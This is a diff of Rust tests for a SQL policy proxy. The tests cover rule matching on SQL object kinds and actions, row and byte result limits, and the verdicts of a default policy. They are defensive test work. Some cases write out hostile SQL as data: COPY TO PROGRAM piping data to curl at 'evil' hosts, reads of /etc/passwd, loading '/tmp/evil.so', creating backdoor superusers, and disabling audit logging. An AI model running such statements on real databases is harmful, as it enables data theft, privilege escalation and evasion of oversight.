@@ -122,10 +122,27 @@ fn example_policy_parses() {
         p.rules()[2].summary(),
         "protocol=[postgres,mysql] sql.statement=[drop,truncate]"
     );
+    assert_eq!(
+        p.rules()[9].summary(),
+        "sql.statement=alter sql.object=table sql.action=[drop_column,rename]"
+    );
     assert_eq!(p.masker().rules().len(), 2);
     assert_eq!(p.masker().rules()[0].name(), Some("pii"));
     assert_eq!(p.masker().rules()[0].detectors().len(), 8);
     assert!(p.masker().rules()[1].is_conditional());
+    let limits: Vec<(&str, Option<u64>, Option<u64>, bool)> = p
+        .limits()
+        .iter()
+        .map(|l| (l.name(), l.rows(), l.bytes(), l.is_conditional()))
+        .collect();
+    assert_eq!(
+        limits,
+        [
+            ("bulk-export", Some(100_000), Some(104_857_600), true),
+            ("contractors-export", Some(1000), None, true)
+        ]
+    );
+    assert_eq!(p.limits()[1].line(), 122);
 }
 
 #[test]
@@ -147,6 +164,18 @@ fn readme_contains_the_example_verbatim() {
         assert!(
             readme.contains(&format!("| `{d}` |")),
             "README lacks detector {d}"
+        );
+    }
+    for o in ObjectKind::ALL {
+        assert!(
+            readme.contains(&format!("| `{o}` |")),
+            "README lacks object kind {o}"
+        );
+    }
+    for a in Action::ALL {
+        assert!(
+            readme.contains(&format!("| `{a}` |")),
+            "README lacks action {a}"
         );
     }
 }
@@ -213,46 +242,83 @@ fn example_policy_decides() {
         d.reason
     );
 
-    // SSH and HTTP.
-    let ssh = target(Protocol::Ssh);
-    let d = p.decide(&w, &ssh, &Operation::SshCommand("sudo rm -rf /var"));
-    assert_eq!(d.rule.as_deref(), Some("no-root-shell-tricks"));
-    let d = p.decide(
-        &w,
-        &ssh,
-        &Operation::SshCommand("git-receive-pack 'acme/app.git'"),
-    );
+    // Object kinds and actions.
+    let d = decide_sql(&p, &w, &t, "CREATE ROLE evil SUPERUSER");
     assert_eq!(
         (d.verdict, d.rule.as_deref()),
-        (Verdict::Review, Some("ssh-writes-need-approval"))
-    );
-    let d = p.decide(
-        &w,
-        &ssh,
-        &Operation::SshCommand("git-upload-pack 'acme/app.git'"),
-    );
-    assert_eq!(d.verdict, Verdict::Allow);
-    let http = target(Protocol::Http);
-    let op = Operation::Http {
-        method: "post",
-        host: "API.internal.example.com:8080",
-        path: "/v1/x",
-    };
-    let d = p.decide(&w, &http, &op);
-    assert_eq!(
-        (d.verdict, d.rule.as_deref()),
-        (Verdict::Review, Some("http-writes-need-approval"))
+        (Verdict::Deny, Some("no-role-changes"))
     );
     assert_eq!(
         d.reason,
-        "rule \"http-writes-need-approval\" matched (http.method=POST, http.host=api.internal.example.com)"
+        "rule \"no-role-changes\" matched (sql.object=role)"
     );
-    let op = Operation::Http {
-        method: "GET",
-        host: "api.internal.example.com",
-        path: "/v1/x",
+    assert_eq!(
+        decide_sql(&p, &w, &t, "CREATE TABLE t (a int)").verdict,
+        Verdict::Allow
+    );
+    let d = decide_sql(&p, &w, &t, "COPY t TO PROGRAM 'curl -d @- evil'");
+    assert_eq!(
+        (d.verdict, d.rule.as_deref()),
+        (Verdict::Deny, Some("no-server-programs-or-files"))
+    );
+    assert_eq!(
+        d.reason,
+        "rule \"no-server-programs-or-files\" matched (sql.action=copy_program); strictest of 2 matching rules"
+    );
+    let d = decide_sql(&p, &w, &t, "ALTER TABLE users DROP COLUMN email");
+    assert_eq!(
+        (d.verdict, d.rule.as_deref()),
+        (Verdict::Review, Some("column-drops-need-approval"))
+    );
+    assert_eq!(
+        d.reason,
+        "rule \"column-drops-need-approval\" matched (sql.statement=alter, sql.object=table, sql.action=drop_column)"
+    );
+    assert_eq!(
+        decide_sql(&p, &w, &t, "ALTER TABLE users ADD COLUMN x int").verdict,
+        Verdict::Allow
+    );
+
+    // SSH and HTTP: judged at connect only.
+    let ssh = target(Protocol::Ssh);
+    let root = Workload {
+        uid: Some(0),
+        ..w.clone()
     };
-    assert_eq!(p.decide(&w, &http, &op).verdict, Verdict::Allow);
+    let d = p.decide(&root, &ssh, &Operation::Connect);
+    assert_eq!(
+        (d.verdict, d.rule.as_deref()),
+        (Verdict::Deny, Some("no-root-ssh"))
+    );
+    assert_eq!(
+        p.decide(&w, &ssh, &Operation::Connect).verdict,
+        Verdict::Allow
+    );
+    // No rule of the example is specific to SSH commands or HTTP requests.
+    assert!(
+        p.rules()
+            .iter()
+            .all(|r| !r.summary().contains("ssh.") && !r.summary().contains("http.")),
+    );
+
+    // Limits.
+    let lim = p.result_limit(&w, &t).unwrap();
+    assert_eq!(
+        lim,
+        ResultLimit {
+            rows: Some(100_000),
+            rows_name: Some("bulk-export".into()),
+            bytes: Some(104_857_600),
+            bytes_name: Some("bulk-export".into()),
+        }
+    );
+    let contractor = enrolled(&[("repository", "contractors/site")]);
+    let lim = p.result_limit(&contractor, &t).unwrap();
+    assert_eq!(
+        (lim.rows, lim.rows_name.as_deref(), lim.bytes),
+        (Some(1000), Some("contractors-export"), Some(104_857_600))
+    );
+    assert_eq!(p.result_limit(&w, &ssh), None);
 }
 
 #[test]
@@ -299,7 +365,7 @@ fn validation_errors_are_located() {
         // Unknown top-level table.
         (
             "[defaults]\ndecision = \"allow\"\n\n[[rules]]\nname = \"x\"\n",
-            "policy.toml:4:3: unknown field `rules`, expected one of `defaults`, `intercept`, `egress_allow`, `rule`, `mask`",
+            "policy.toml:4:3: unknown field `rules`, expected one of `defaults`, `intercept`, `egress_allow`, `rule`, `mask`, `limit`",
         ),
         // Unknown key in [defaults].
         (
@@ -395,7 +461,7 @@ fn validation_errors_are_located() {
         // Match keys.
         (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"postgres\", sql.statment = [\"drop\"] }\n",
-            "policy.toml:4:38: unknown field `statment`, expected one of `statement`, `tables`, `functions`, `has_where`",
+            "policy.toml:4:38: unknown field `statment`, expected one of `statement`, `object`, `action`, `tables`, `functions`, `has_where`",
         ),
         (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { user = \"x\" }\n",
@@ -447,10 +513,6 @@ fn validation_errors_are_located() {
             "policy.toml:4:20: invalid glob \"/system.slice/\\\\\": dangling escape (`\\` at the end of the pattern)",
         ),
         (
-            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { ssh.command_regex = \"^git (push\" }\n",
-            "policy.toml:4:31: invalid regex \"^git (push\": unclosed group",
-        ),
-        (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { target.cidr = [\"10.0.0.0/8\", \"300.1.1.1\"] }\n",
             "policy.toml:4:40: invalid CIDR \"300.1.1.1\" (expected an IPv4/IPv6 address or address/prefix, e.g. \"10.0.0.0/8\")",
         ),
@@ -462,13 +524,47 @@ fn validation_errors_are_located() {
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { target.hostname = \"x\" }\n",
             "policy.toml:4:18: unknown field `hostname`, expected one of `cidr`, `port`, `host`, `database`, `user`",
         ),
+        // ssh.* and http.* keys: no module judges them yet.
         (
-            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { http.method = [\"GET\", \"PO ST\"] }\n",
-            "policy.toml:4:33: invalid HTTP method \"PO ST\"",
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"ssh\", ssh.command = \"sudo *\" }\n",
+            "policy.toml:4:29: ssh.* rules are not supported yet: SSH connections are relayed as opaque TCP and judged only at connect; remove the key or use a connection rule",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"review\"\n\n[rule.match]\nhttp.method = \"POST\"\n",
+            "policy.toml:6:1: http.* rules are not supported yet: HTTP connections are relayed as opaque TCP and judged only at connect; remove the key or use a connection rule",
         ),
         (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.statement = \"drop\", ssh.command = \"rm *\" }\n",
-            "policy.toml:4:35: a rule can use only one of sql.*, ssh.* and http.* (it already uses sql.*; they match different operations)",
+            "policy.toml:4:35: ssh.* rules are not supported yet: SSH connections are relayed as opaque TCP and judged only at connect; remove the key or use a connection rule",
+        ),
+        // sql.object and sql.action.
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.object = [\"role\", \"rol\"] }\n",
+            "policy.toml:4:33: unknown object kind \"rol\" (expected one of: table, view, materialized_view, index, sequence, role, database, schema, function, procedure, aggregate, trigger, rule, extension, type, domain, policy, server, foreign_table, foreign_data_wrapper, user_mapping, collation, operator, text_search, column, other)",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.object = \"publication\" }\n",
+            "policy.toml:4:24: object kind \"publication\" can never match: sqlparser does not parse CREATE/ALTER/DROP PUBLICATION yet, so such statements are judged as unparsed SQL (defaults.unparsed); remove it",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = \"copy_to_program\" }\n",
+            "policy.toml:4:24: unknown action \"copy_to_program\" (expected one of: copy_program, copy_file, copy_to_client, copy_from_client, add_column, drop_column, alter_column, rename, change_owner, disable_trigger, disable_row_security, set_role, reset_role, set_session_authorization, reset_session_authorization, set_parameter, alter_system, set_password, load_library, security_definer, grant_role, revoke_role)",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = [\"copy_file\", \"select_into_outfile\"] }\n",
+            "policy.toml:4:38: action \"select_into_outfile\" can never match: sqlparser does not parse MySQL SELECT … INTO OUTFILE|DUMPFILE yet, so such statements are judged as unparsed SQL (defaults.unparsed); remove it",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.action = [] }\n",
+            "policy.toml:4:24: empty list (give at least one value, or remove the key)",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = [\"tcp\", \"ssh\"], sql.object = \"role\" }\n",
+            "policy.toml:4:38: sql.* can never match: protocol is limited to tcp, ssh (sql.* applies to postgres and mysql)",
+        ),
+        (
+            "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { sql.objects = \"role\" }\n",
+            "policy.toml:4:15: unknown field `objects`, expected one of `statement`, `object`, `action`, `tables`, `functions`, `has_where`",
         ),
         (
             "[[rule]]\nname = \"a\"\ndecision = \"deny\"\nmatch = { protocol = \"ssh\", sql.statement = \"drop\" }\n",
@@ -503,6 +599,47 @@ fn validation_errors_are_located() {
             "[[mask]]\ncolumns = [\"password\"]\ndetector = [\"email\"]\n",
             "policy.toml:3:1: unknown field `detector`, expected one of `name`, `detectors`, `columns`, `match`",
         ),
+        // Limits.
+        (
+            "[[limit]]\nrows = 10\n",
+            "policy.toml:1:1: missing field `name`",
+        ),
+        (
+            "[[limit]]\nname = \" \"\nrows = 10\n",
+            "policy.toml:2:8: limit name must not be empty",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = 10\n\n[[limit]]\nname = \"a\"\nbytes = 10\n",
+            "policy.toml:6:8: duplicate limit name \"a\" (first defined at line 2)",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nmatch = { protocol = \"mysql\" }\n",
+            "policy.toml:1:1: a [[limit]] entry needs `rows`, `bytes` or both",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = 0\n",
+            "policy.toml:3:8: rows must be a positive integer, got 0",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = 5\nbytes = -1\n",
+            "policy.toml:4:9: bytes must be a positive integer, got -1",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = \"10k\"\n",
+            "policy.toml:3:8: invalid type: string \"10k\", expected i64",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = 10\nmatch = { sql.tables = \"users\" }\n",
+            "policy.toml:4:11: sql.* cannot be used in a [[limit]] match (limits apply to whole connections; allowed keys: protocol, cgroup, unit, exe, comm, uid, identity.*, target.*)",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = 10\nmatch = { ssh.command = \"x\" }\n",
+            "policy.toml:4:11: ssh.* cannot be used in a [[limit]] match (limits apply to whole connections; allowed keys: protocol, cgroup, unit, exe, comm, uid, identity.*, target.*)",
+        ),
+        (
+            "[[limit]]\nname = \"a\"\nrows = 10\nrow = 5\n",
+            "policy.toml:4:1: unknown field `row`, expected one of `name`, `rows`, `bytes`, `match`",
+        ),
         // TOML syntax.
         (
             "[defaults]\ndecision = \"allow\n",
@@ -524,6 +661,43 @@ fn validation_errors_are_located() {
     );
 }
 
+/// Validation of ssh.*/http.* values, for when their modules judge them.
+#[test]
+fn unjudged_family_values_are_validated() {
+    let cases: &[(&str, &str)] = &[
+        (
+            "match = { ssh.command_regex = \"^git (push\" }",
+            "policy.toml:4:31: invalid regex \"^git (push\": unclosed group",
+        ),
+        (
+            "match = { http.method = [\"GET\", \"PO ST\"] }",
+            "policy.toml:4:33: invalid HTTP method \"PO ST\"",
+        ),
+        (
+            "match = { sql.statement = \"drop\", ssh.command = \"rm *\" }",
+            "policy.toml:4:35: a rule can use only one of sql.*, ssh.* and http.* (it already uses sql.*; they match different operations)",
+        ),
+        (
+            "match = { protocol = \"postgres\", http.path = \"/x\" }",
+            "policy.toml:4:34: http.* can never match: protocol is limited to postgres (http.* applies to http)",
+        ),
+    ];
+    for (m, want) in cases {
+        let text = format!("[[rule]]\nname = \"a\"\ndecision = \"deny\"\n{m}\n");
+        let got = Policy::parse_judging(&text, "policy.toml", ALL_FAMILIES)
+            .map(|_| ())
+            .unwrap_err()
+            .to_string();
+        assert_eq!(got, *want, "{m}");
+        // With the shipped families, the key itself is refused.
+        let got = err(&text);
+        assert!(got.contains("rules are not supported yet"), "{got}");
+    }
+    assert!(crate::JUDGED_FAMILIES.contains(&"sql"));
+    assert!(!crate::JUDGED_FAMILIES.contains(&"ssh"));
+    assert!(!crate::JUDGED_FAMILIES.contains(&"http"));
+}
+
 // ---------------------------------------------------------------- matchers
 
 /// A policy with one deny rule whose match table is `m`.
@@ -531,6 +705,19 @@ fn one_rule(m: &str) -> Policy {
     parse(&format!(
         "[[rule]]\nname = \"r\"\ndecision = \"deny\"\nmatch = {{ {m} }}\n"
     ))
+}
+
+/// Every operation family, as the SSH and HTTP modules will judge them.
+const ALL_FAMILIES: &[&str] = &["sql", "ssh", "http"];
+
+/// [`one_rule`] with ssh.*/http.* keys accepted (their matchers are kept
+/// for the modules that will use them).
+fn one_rule_all_families(m: &str) -> Policy {
+    let text = format!("[[rule]]\nname = \"r\"\ndecision = \"deny\"\nmatch = {{ {m} }}\n");
+    match Policy::parse_judging(&text, "policy.toml", ALL_FAMILIES) {
+        Ok(p) => p,
+        Err(e) => panic!("unexpected error: {e}\n--- text ---\n{text}"),
+    }
 }
 
 fn denies(p: &Policy, w: &Workload, t: &Target, op: &Operation<'_>) -> bool {
@@ -766,6 +953,70 @@ fn sql_matchers() {
             false,
         ),
         ("sql.functions = \"lower\"", "SELECT 1", false),
+        ("sql.object = \"role\"", "CREATE ROLE r", true),
+        ("sql.object = \"role\"", "CREATE TABLE r (a int)", false),
+        (
+            "sql.object = [\"view\", \"role\"]",
+            "GRANT admin TO bob",
+            true,
+        ),
+        ("sql.object = \"table\"", "SELECT * FROM t", false),
+        (
+            "sql.statement = \"drop\", sql.object = \"table\"",
+            "DROP VIEW v",
+            false,
+        ),
+        (
+            "sql.statement = \"drop\", sql.object = \"view\"",
+            "DROP VIEW v",
+            true,
+        ),
+        (
+            "sql.action = \"copy_program\"",
+            "COPY t TO PROGRAM 'x'",
+            true,
+        ),
+        ("sql.action = \"copy_program\"", "COPY t TO STDOUT", false),
+        (
+            "sql.action = [\"copy_file\", \"copy_program\"]",
+            "COPY t FROM '/etc/passwd'",
+            true,
+        ),
+        (
+            "sql.action = \"drop_column\"",
+            "ALTER TABLE t DROP COLUMN c",
+            true,
+        ),
+        (
+            "sql.action = \"drop_column\"",
+            "ALTER TABLE t ADD COLUMN c int",
+            false,
+        ),
+        (
+            "sql.action = \"set_role\"",
+            "SELECT set_config('role', 'postgres', false)",
+            true,
+        ),
+        (
+            "sql.action = \"set_role\"",
+            "SELECT set_config('work_mem', '1GB', false)",
+            false,
+        ),
+        (
+            "sql.object = \"table\", sql.action = \"rename\"",
+            "ALTER TABLE t RENAME TO u",
+            true,
+        ),
+        (
+            "sql.object = \"table\", sql.action = \"rename\"",
+            "ALTER TABLE t OWNER TO bob",
+            false,
+        ),
+        (
+            "sql.action = \"alter_system\"",
+            "ALTER SYSTEM SET work_mem = '1GB'",
+            true,
+        ),
         ("sql.has_where = false", "DELETE FROM t", true),
         ("sql.has_where = false", "DELETE FROM t WHERE id = 1", false),
         (
@@ -850,7 +1101,7 @@ fn ssh_and_http_matchers() {
         ),
     ];
     for (m, cmd, want) in ssh_cases {
-        let p = one_rule(m);
+        let p = one_rule_all_families(m);
         assert_eq!(
             denies(&p, &w, &ssh, &Operation::SshCommand(cmd)),
             *want,
@@ -919,7 +1170,7 @@ fn ssh_and_http_matchers() {
         ),
     ];
     for (m, (method, host, path), want) in http_cases {
-        let p = one_rule(m);
+        let p = one_rule_all_families(m);
         let op = Operation::Http { method, host, path };
         assert_eq!(
             denies(&p, &w, &http, &op),
@@ -1235,4 +1486,318 @@ fn mask_match_on_target() {
             .column_masked("anything")
     );
     assert!(p.masker().for_context(&workload(), &pg()).is_empty());
+}
+
+#[test]
+fn sql_object_and_action_reasons() {
+    let w = workload();
+    let t = pg();
+    let p = one_rule(
+        "sql.statement = \"alter\", sql.object = [\"view\", \"table\"], sql.action = [\"rename\", \"drop_column\"]",
+    );
+    let d = decide_sql(
+        &p,
+        &w,
+        &t,
+        "ALTER TABLE t DROP COLUMN a, RENAME COLUMN b TO c",
+    );
+    assert_eq!(
+        d.reason,
+        "rule \"r\" matched (sql.statement=alter, sql.object=table, sql.action=drop_column)"
+    );
+    assert_eq!(
+        p.rules()[0].summary(),
+        "sql.statement=alter sql.object=[view,table] sql.action=[rename,drop_column]"
+    );
+    // MySQL statements on a MySQL connection.
+    let my = target(Protocol::Mysql);
+    let p = one_rule("protocol = \"mysql\", sql.action = \"alter_system\"");
+    let s = sql::classify("SET GLOBAL general_log = 0", Dialect::Mysql).unwrap();
+    let d = p.decide(&w, &my, &Operation::Sql(&s[0]));
+    assert_eq!(d.verdict, Verdict::Deny);
+    assert_eq!(
+        d.reason,
+        "rule \"r\" matched (protocol=mysql, sql.action=alter_system)"
+    );
+    // sql.object/sql.action never match unparsed SQL or a connect.
+    let p = one_rule("sql.object = \"other\"");
+    let op = Operation::SqlUnparsed {
+        text: "CREATE PUBLICATION p",
+        error: "e",
+    };
+    assert!(!denies(&p, &w, &t, &op));
+    assert!(!denies(&p, &w, &t, &Operation::Connect));
+}
+
+// ---------------------------------------------------------------- limits
+
+const LIMITS: &str = r#"
+[[limit]]
+name = "everyone"
+rows = 100000
+bytes = 50000000
+
+[[limit]]
+name = "mysql-rows"
+rows = 5000
+match = { protocol = "mysql" }
+
+[[limit]]
+name = "contractors"
+rows = 100
+bytes = 1000000
+match = { identity.repository = "contractors/*" }
+
+[[limit]]
+name = "contractors-again"
+rows = 100
+match = { identity.repository = "contractors/*" }
+
+[[limit]]
+name = "prod-bytes"
+bytes = 10000
+match = { target.database = "prod", cgroup = "/system.slice/*" }
+"#;
+
+#[test]
+fn limits_select_the_tightest_bounds() {
+    let p = parse(LIMITS);
+    assert_eq!(p.limits().len(), 5);
+    assert_eq!(p.limits()[0].line(), 2);
+    assert!(!p.limits()[0].is_conditional());
+    assert!(p.limits()[1].is_conditional());
+    let w = workload();
+    let lim = |w: &Workload, t: &Target| p.result_limit(w, t);
+    let rl = |rows: Option<(u64, &str)>, bytes: Option<(u64, &str)>| ResultLimit {
+        rows: rows.map(|r| r.0),
+        rows_name: rows.map(|r| r.1.to_owned()),
+        bytes: bytes.map(|b| b.0),
+        bytes_name: bytes.map(|b| b.1.to_owned()),
+    };
+    // Only the unconditional limit.
+    assert_eq!(
+        lim(&w, &pg()),
+        Some(rl(Some((100000, "everyone")), Some((50000000, "everyone"))))
+    );
+    // Rows from one limit, bytes from another.
+    assert_eq!(
+        lim(&w, &target(Protocol::Mysql)),
+        Some(rl(Some((5000, "mysql-rows")), Some((50000000, "everyone"))))
+    );
+    // Ties go to the first limit in the file.
+    let c = enrolled(&[("repository", "contractors/site")]);
+    assert_eq!(
+        lim(&c, &target(Protocol::Mysql)),
+        Some(rl(
+            Some((100, "contractors")),
+            Some((1000000, "contractors"))
+        ))
+    );
+    let prod = Target {
+        database: Some("prod".into()),
+        ..pg()
+    };
+    assert_eq!(
+        lim(&c, &prod),
+        Some(rl(Some((100, "contractors")), Some((10000, "prod-bytes"))))
+    );
+    // No limit at all.
+    assert_eq!(parse("").result_limit(&w, &pg()), None);
+    let only_mysql = parse("[[limit]]\nname = \"m\"\nrows = 1\nmatch = { protocol = \"mysql\" }\n");
+    assert_eq!(only_mysql.result_limit(&w, &pg()), None);
+    assert_eq!(
+        only_mysql.result_limit(&w, &target(Protocol::Mysql)),
+        Some(rl(Some((1, "m")), None))
+    );
+}
+
+#[test]
+fn result_limit_checks() {
+    let l = ResultLimit {
+        rows: Some(10),
+        rows_name: Some("bulk".into()),
+        bytes: Some(1000),
+        bytes_name: Some("bytes-cap".into()),
+    };
+    assert_eq!(l.check(0, 0), None);
+    // Reaching a bound is fine; going past it is not.
+    assert_eq!(l.check(10, 1000), None);
+    let e = l.check(11, 0).unwrap();
+    assert_eq!(
+        e,
+        LimitExceeded {
+            limit: "bulk".into(),
+            unit: LimitUnit::Rows,
+            max: 10
+        }
+    );
+    assert_eq!(
+        e.to_string(),
+        "result exceeds limit \"bulk\" (more than 10 rows)"
+    );
+    let e = l.check(5, 1001).unwrap();
+    assert_eq!(
+        e.to_string(),
+        "result exceeds limit \"bytes-cap\" (more than 1000 bytes)"
+    );
+    // Rows are reported first when both are past.
+    assert_eq!(l.check(11, 1001).unwrap().unit, LimitUnit::Rows);
+    let rows_only = ResultLimit {
+        rows: Some(1),
+        rows_name: Some("r".into()),
+        ..ResultLimit::default()
+    };
+    assert_eq!(rows_only.check(1, u64::MAX), None);
+}
+
+// ---------------------------------------------------------------- default policy
+
+const DEFAULT_POLICY: &str = include_str!(concat!(
+    env!("CARGO_MANIFEST_DIR"),
+    "/../systemd/policy.toml"
+));
+
+#[test]
+fn default_policy_decisions() {
+    let p = match Policy::parse(DEFAULT_POLICY, "systemd/policy.toml") {
+        Ok(p) => p,
+        Err(e) => panic!("systemd/policy.toml: {e}"),
+    };
+    assert_eq!(p.defaults().decision, Verdict::Allow);
+    assert_eq!(p.defaults().unparsed, Verdict::Review);
+    let ports: Vec<(u16, Protocol)> = p
+        .intercepts()
+        .iter()
+        .map(|i| (i.port, i.protocol))
+        .collect();
+    assert_eq!(ports, [(5432, Protocol::Postgres), (3306, Protocol::Mysql)]);
+    assert!(!p.masker().is_empty());
+
+    use Verdict::{Allow as A, Deny as D, Review as R};
+    #[rustfmt::skip]
+    let cases: &[(Dialect, &str, Verdict, &str)] = &[
+        // Destructive DDL.
+        (Dialect::Postgres, "DROP TABLE users", D, "no-destructive-ddl"),
+        (Dialect::Postgres, "TRUNCATE orders", D, "no-destructive-ddl"),
+        (Dialect::Mysql, "DROP DATABASE shop", D, "no-destructive-ddl"),
+        (Dialect::Postgres, "ALTER TABLE users DROP COLUMN email", D, "no-column-drops"),
+        (Dialect::Mysql, "ALTER TABLE users DROP email", D, "no-column-drops"),
+        // Privileges, roles, identity, server configuration.
+        (Dialect::Postgres, "GRANT SELECT ON users TO public", D, "no-privilege-changes"),
+        (Dialect::Postgres, "GRANT pg_read_server_files TO ci", D, "no-privilege-changes"),
+        (Dialect::Mysql, "REVOKE SELECT ON shop.users FROM app", D, "no-privilege-changes"),
+        (Dialect::Postgres, "CREATE ROLE backdoor LOGIN SUPERUSER", D, "no-role-changes"),
+        (Dialect::Postgres, "ALTER USER ci WITH SUPERUSER", D, "no-role-changes"),
+        (Dialect::Mysql, "CREATE USER backdoor", D, "no-role-changes"),
+        (Dialect::Postgres, "SET SESSION AUTHORIZATION postgres", D, "no-identity-or-server-changes"),
+        (Dialect::Postgres, "SELECT set_config('session_authorization', 'postgres', false)", D, "no-identity-or-server-changes"),
+        (Dialect::Postgres, "ALTER SYSTEM SET log_statement = 'none'", D, "no-identity-or-server-changes"),
+        (Dialect::Mysql, "SET GLOBAL general_log = 0", D, "no-identity-or-server-changes"),
+        (Dialect::Mysql, "SET PASSWORD = 'owned'", D, "no-identity-or-server-changes"),
+        (Dialect::Postgres, "ALTER TABLE audit DISABLE TRIGGER ALL", D, "no-identity-or-server-changes"),
+        (Dialect::Postgres, "ALTER FUNCTION f() SECURITY DEFINER", D, "no-identity-or-server-changes"),
+        // Programs and files on the server.
+        (Dialect::Postgres, "COPY users TO PROGRAM 'curl -T - https://evil'", D, "no-server-programs-or-files"),
+        (Dialect::Postgres, "COPY users FROM '/etc/passwd'", D, "no-server-programs-or-files"),
+        (Dialect::Postgres, "LOAD '/tmp/evil.so'", D, "no-server-programs-or-files"),
+        (Dialect::Postgres, "SELECT pg_read_file('/etc/passwd')", D, "no-server-file-functions"),
+        (Dialect::Postgres, "SELECT * FROM pg_catalog.pg_ls_waldir()", D, "no-server-file-functions"),
+        (Dialect::Postgres, "SELECT lo_export(1234, '/tmp/x')", D, "no-server-file-functions"),
+        (Dialect::Postgres, "SELECT dblink_exec('host=127.0.0.1 user=postgres', 'DROP TABLE t')", D, "no-server-file-functions"),
+        (Dialect::Mysql, "SELECT LOAD_FILE('/etc/passwd')", D, "no-server-file-functions"),
+        // Reviewed.
+        (Dialect::Postgres, "DO $$ BEGIN PERFORM 1; END $$", R, "code-needs-approval"),
+        (Dialect::Postgres, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", R, "code-objects-need-approval"),
+        (Dialect::Postgres, "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", R, "code-objects-need-approval"),
+        (Dialect::Postgres, "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", R, "code-objects-need-approval"),
+        (Dialect::Postgres, "CREATE EXTENSION plpython3u", R, "code-objects-need-approval"),
+        (Dialect::Postgres, "SET ROLE admin", R, "role-switch-needs-approval"),
+        (Dialect::Mysql, "SET ROLE ALL", R, "role-switch-needs-approval"),
+        (Dialect::Postgres, "UPDATE accounts SET balance = 0", R, "unbounded-writes-need-approval"),
+        (Dialect::Mysql, "DELETE FROM orders", R, "unbounded-writes-need-approval"),
+        // Allowed.
+        (Dialect::Postgres, "SELECT * FROM users WHERE id = $1", A, ""),
+        (Dialect::Postgres, "INSERT INTO orders (id, total) VALUES (1, 9.5)", A, ""),
+        (Dialect::Postgres, "UPDATE orders SET total = 0 WHERE id = 7", A, ""),
+        (Dialect::Mysql, "DELETE FROM orders WHERE id = 7", A, ""),
+        (Dialect::Postgres, "BEGIN", A, ""),
+        (Dialect::Postgres, "COMMIT", A, ""),
+        (Dialect::Mysql, "START TRANSACTION", A, ""),
+        (Dialect::Postgres, "SAVEPOINT s1", A, ""),
+        (Dialect::Postgres, "ROLLBACK TO SAVEPOINT s1", A, ""),
+        (Dialect::Postgres, "SET search_path = app, public", A, ""),
+        (Dialect::Postgres, "SET statement_timeout = '30s'", A, ""),
+        (Dialect::Postgres, "RESET ROLE", A, ""),
+        (Dialect::Mysql, "SET NAMES utf8mb4", A, ""),
+        (Dialect::Mysql, "SET autocommit = 0", A, ""),
+        (Dialect::Postgres, "SHOW server_version", A, ""),
+        (Dialect::Mysql, "SHOW TABLES", A, ""),
+        (Dialect::Postgres, "DECLARE c CURSOR FOR SELECT * FROM t", A, ""),
+        (Dialect::Postgres, "FETCH 10 FROM c", A, ""),
+        (Dialect::Postgres, "CLOSE c", A, ""),
+        (Dialect::Postgres, "CREATE TABLE t (id int primary key)", A, ""),
+        (Dialect::Postgres, "ALTER TABLE t ADD COLUMN note text", A, ""),
+        (Dialect::Postgres, "CREATE INDEX CONCURRENTLY i ON t (note)", A, ""),
+        (Dialect::Postgres, "COPY t FROM STDIN", A, ""),
+        (Dialect::Postgres, "COPY (SELECT * FROM t) TO STDOUT WITH CSV", A, ""),
+        (Dialect::Postgres, "EXPLAIN SELECT * FROM t", A, ""),
+        (Dialect::Postgres, "PREPARE q AS SELECT * FROM t WHERE id = $1", A, ""),
+        (Dialect::Postgres, "EXECUTE q(1)", A, ""),
+    ];
+    let w = workload();
+    let mut failures = Vec::new();
+    for (dialect, sql_text, verdict, rule) in cases {
+        let t = match dialect {
+            Dialect::Postgres => pg(),
+            Dialect::Mysql => target(Protocol::Mysql),
+        };
+        let stmts = match sql::classify(sql_text, *dialect) {
+            Ok(s) if s.len() == 1 => s,
+            other => {
+                failures.push(format!("{dialect:?} {sql_text}: {other:?}"));
+                continue;
+            }
+        };
+        let d = p.decide(&w, &t, &Operation::Sql(&stmts[0]));
+        if d.verdict != *verdict || d.rule.as_deref().unwrap_or("") != *rule {
+            failures.push(format!(
+                "{dialect:?} {sql_text}: want {verdict} by {rule:?}, got {} by {:?} ({})",
+                d.verdict, d.rule, d.reason
+            ));
+        }
+    }
+    // What does not parse is reviewed.
+    for (dialect, sql_text) in [
+        (Dialect::Postgres, "MOVE NEXT FROM c"),
+        (Dialect::Postgres, "CREATE PUBLICATION p FOR ALL TABLES"),
+        (Dialect::Mysql, "PREPARE s FROM 'DROP TABLE t'"),
+        (
+            Dialect::Mysql,
+            "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
+        ),
+        (
+            Dialect::Mysql,
+            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+        ),
+        (
+            Dialect::Mysql,
